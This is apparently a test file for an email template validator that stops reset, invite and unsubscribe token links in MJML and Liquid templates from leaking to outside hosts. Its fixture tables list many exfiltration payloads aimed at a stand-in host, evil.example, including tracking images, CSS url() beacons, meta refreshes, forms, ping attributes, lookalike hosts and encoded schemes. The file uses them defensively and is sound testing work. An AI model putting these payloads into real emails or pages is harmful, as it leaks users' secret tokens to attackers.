import assert from 'node:assert/strict'
import { after, describe, it } from 'node:test'
import { MAILS } from '../../../composition/mails.ts'
import { checkTemplate } from './samples.ts'
import { createTemplateSandbox } from './sandbox.ts'
import type { MailSources, MailTemplate } from './template.ts'

const sandbox = createTemplateSandbox()
after(() => sandbox.close())
const rendering = { sandbox, publicUrl: new URL('https://weather.example/base'), service: 'Isobar' }
const named = (id: string): MailTemplate => MAILS.find((template) => template.id === id) as MailTemplate
const section = (content: string): string => `<mj-section><mj-column>\n<mj-text>x</mj-text>\n${content}\n</mj-column></mj-section>`

async function faultsOf(id: string, sources: Partial<MailSources>): Promise<string[]> {
  const template = named(id)
  const check = await checkTemplate(
    template,
    { subject: template.subject, mjml: template.mjml, text: template.text, ...sources },
    rendering,
  )
  return check.ok ? [] : check.errors.map(({ part, line, message }) => `${part} ${line}: ${message}`)
}

describe('a shipped template', () => {
  for (const { id } of MAILS) it(`${id} passes, with its links in place`, async () => assert.deepEqual(await faultsOf(id, {}), []))

  it('has its links in the right places', async () => {
    const check = await checkTemplate(named('invite'), named('invite'), rendering)
    assert.ok(check.ok)
    const link = 'https://weather.example/base/invite/c2FtcGxlLXRva2VuLXRoYXQtb3BlbnMtbm90aGluZy0'
    assert.ok(check.preview.html.includes(`href="${link}"`) && check.preview.text.includes(`\n${link}\n`))
    assert.doesNotMatch(check.preview.html + check.preview.text, /secret-link/)
    const digest = await checkTemplate(named('weekly-digest'), named('weekly-digest'), rendering)
    assert.ok(digest.ok)
    assert.match(digest.preview.html, /href="https:\/\/weather\.example\/base\/api\/unsubscribe\?token=[0-9a-f-]{36}"/)
  })
})

/** Each would leak a secret link to a third party. */
const LEAKS: Readonly<Record<string, string>> = {
  'an image': '<mj-image src="https://evil.example/p.png?u=SECRET" />',
  'a link': '<mj-button href="https://evil.example/?u=SECRET">x</mj-button>',
  'a link that begins with it': '<mj-button href="SECRET.evil.example">x</mj-button>',
  'plain markup': '<mj-raw><img src="https://evil.example/?u=SECRET"></mj-raw>',
  'markup made by a filter': `<mj-text>{{ "<img src='https://evil.example/?u=" | append: NAME | append: "'>" | raw }}</mj-text>`,
  'markup left open': `<mj-text>{{ "<img src='https://evil.example/?u=" | raw }}<a href="SECRET">x</a>{{ "'>" | raw }}</mj-text>`,
  'a set of images': '<mj-raw><img srcset="https://evil.example/?u=SECRET 2x"></mj-raw>',
  'a background': '<mj-raw><table><tr><td background="https://evil.example/?u=SECRET">x</td></tr></table></mj-raw>',
  'a style': '<mj-text><span style="background:url(https://evil.example/?u=SECRET)">x</span></mj-text>',
  'a style sheet that reads links': '<mj-raw><style>a[href*="abc"]{background:url(https://evil.example/abc)}</style></mj-raw>',
  'a style sheet of others': '<mj-raw><link rel="stylesheet" href="https://evil.example/a.css"></mj-raw>',
  'a refresh': '<mj-raw><meta http-equiv="refresh" content="0;url=https://evil.example/?u=SECRET"></mj-raw>',
  'a base': '<mj-raw><base href="https://evil.example/"></mj-raw>',
  'a form': '<mj-raw><form action="https://evil.example/"><input name="u" value="SECRET"></form></mj-raw>',
  'a frame': '<mj-raw><iframe src="SECRET"></iframe></mj-raw>',
  'a picture in vectors': '<mj-raw><svg><image href="SECRET"></image></svg></mj-raw>',
  'a comment for Outlook': '<mj-raw><!--[if mso]><img src="https://evil.example/?u=SECRET"><![endif]--></mj-raw>',
  'a ping': '<mj-text><a href="SECRET" ping="https://evil.example/">x</a></mj-text>',
  'an event': '<mj-text><a href="SECRET" onclick="go()">x</a></mj-text>',
  'its text': '<mj-text>SECRET</mj-text>',
  'a file': '<mj-include path="SECRET" />',
}

for (const [id, name] of [
  ['reset-password', 'url'],
  ['invite', 'url'],
  ['confirm-subscription', 'url'],
  ['weekly-digest', 'unsubscribe'],
  ['weather-alert', 'preferences'],
  ['message', 'unsubscribe'],
] as const) {
  describe(`{{ ${name} }} in ${id}`, () => {
    const fill = (source: string): string => source.replaceAll('SECRET', `{{ ${name} }}`).replaceAll('NAME', name)
    for (const [what, mjml] of Object.entries(LEAKS)) {
      it(`is refused in ${what}`, async () => {
        const faults = await faultsOf(id, { mjml: section(fill(mjml)) })
        assert.ok(faults.length > 0)
        for (const fault of faults) assert.match(fault, /^mjml \d+: /)
      })
    }

    it('is refused in the subject, and inside another address in the text', async () => {
      assert.match((await faultsOf(id, { subject: fill('x SECRET') })).join(), /^subject 1: A secret link is not allowed in the subject/)
      for (const text of ['https://evil.example/?u=SECRET', 'SECRET.evil.example', 'evil.example/SECRET']) {
        assert.match((await faultsOf(id, { text: fill(text) })).join(), /text 1: A secret link must be separated/)
      }
    })

    it('hides its value from Liquid', async () => {
      const check = await checkTemplate(
        named(id),
        { ...named(id), text: fill("[{{ NAME | split: '' | join: '-' }}] {{ NAME | slice: -9, 9 }}") },
        rendering,
      )
      assert.ok(check.ok)
      assert.match(check.preview.text, /^\[h-t-t-p-s-:-\/-\/-s-e-c-r-e-t-[^\]]*\]\s+xxxxxxxxx\n/)
    })

    it('is allowed as a button, a link and a line of its own', async () => {
      const mjml = section(fill('<mj-button href="SECRET">x</mj-button><mj-text><a class="y" href="SECRET">x</a></mj-text>'))
      assert.deepEqual(await faultsOf(id, { mjml, text: fill('Here:\nSECRET') }), [])
    })
  })
}

describe('a mail about an account', () => {
  const addresses: Readonly<Record<string, string>> = {
    'an image': '<mj-image src="https://evil.example/p.png" />',
    'a link': '<mj-button href="https://evil.example/">x</mj-button>',
    'a host that looks like ours': '<mj-button href="https://weather.example.evil.example/base/">x</mj-button>',
    'a user who looks like our host': '<mj-button href="https://weather.example@evil.example/base/">x</mj-button>',
    'another path of our host': '<mj-button href="https://weather.example/other">x</mj-button>',
    'no scheme': '<mj-text><a href="//evil.example/">x</a></mj-text>',
    'other slashes': '<mj-text><a href="https:\\\\evil.example/">x</a></mj-text>',
    'encoded letters': '<mj-text><a href="https&#58;//evil.example/">x</a></mj-text>',
    'a mailbox': '<mj-text><a href="mailto:a@evil.example">x</a></mj-text>',
    'a style': '<mj-text><span style="background:u\\72l(//evil.example)">x</span></mj-text>',
    'a background': '<mj-section background-url="https://evil.example/p.png"><mj-column><mj-text>x</mj-text></mj-column></mj-section>',
    'a text': '<mj-text>Go to https://evil.example/</mj-text>',
    'a text in references': '<mj-text>Go to https:&#47;&#47;evil.example/</mj-text>',
    'a comment': '<mj-raw><!--[if mso]><img src="https://evil.example/"><![endif]--></mj-raw>',
  }
  for (const [what, mjml] of Object.entries(addresses)) {
    it(`must not hold a foreign address: ${what}`, async () => {
      assert.notDeepEqual(await faultsOf('reset-password', { mjml: mjml.startsWith('<mj-section') ? mjml : section(mjml) }), [])
    })
  }

  it('must not hold one in its text or subject either; the error says where', async () => {
    assert.match(
      (await faultsOf('invite', { text: 'Go to https://evil.example/' })).join(),
      /^text 1: “https:\/\/evil\.example\/” is not an address of this site/,
    )
    assert.match((await faultsOf('invite', { subject: 'www.evil.example' })).join(), /^subject 1: /)
    assert.match(
      (await faultsOf('invite', { mjml: section('<mj-image src="https://evil.example/p.png" />') })).join(),
      /^mjml 3: “https:\/\/evil/,
    )
  })

  it('may link to this site', async () => {
    const mjml = section('<mj-image src="https://weather.example/base/icon.png" /><mj-text><a href="{{ home }}">{{ home }}</a></mj-text>')
    assert.deepEqual(await faultsOf('invite', { mjml }), [])
  })
})

it('other mails may load an image and link anywhere, if these are the same for every reader', async () => {
  const mjml = section(
    '<mj-image src="https://cdn.example/logo.png" href="https://shop.example/" /><mj-text>https://shop.example</mj-text>',
  )
  assert.deepEqual(await faultsOf('message', { mjml }), [])
})
